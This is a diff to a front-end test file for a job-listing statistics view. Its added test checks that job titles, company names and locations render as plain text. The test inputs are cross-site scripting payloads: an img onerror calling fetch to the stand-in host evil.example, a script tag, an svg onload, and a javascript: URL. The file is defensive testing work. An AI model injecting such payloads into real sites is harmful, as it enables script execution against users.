@@ -52,7 +52,18 @@ test('[STAT-1] a card shows title, company, place, score, status, date and model
   })
 })
 
-test('a posting whose address is not plain web is not linked to', async () => {
+test('[SRC-001] markup in what a source says of a job is shown as the text it is', async () => {
+  const jobTitle = '<img src=x onerror=fetch("//evil.example")>Baker'
+  const companyName = '<script>alert(1)</script>'
+  await openStatistics({
+    listJobs: () => [makeJob({ jobTitle, companyName, location: '<svg onload=alert(1)>' })],
+  })
+  expect(titles()).toContain(jobTitle)
+  for (const text of [companyName, /<svg onload=alert\(1\)>/]) expect(screen.getByText(text)).toBeTruthy()
+  expect(document.body.querySelector('img[src="x"], script:not([type]), svg[onload]')).toBeNull()
+})
+
+test('[SRC-002] a posting whose address is not plain web is not linked to', async () => {
   await openStatistics({ listJobs: () => [makeJob({ url: 'javascript:alert(1)' })] })
   expect(screen.queryByRole('link', { name: 'Data Engineer, Billing' })).toBeNull()
   expect(titles()).toContain('Data Engineer, Billing')
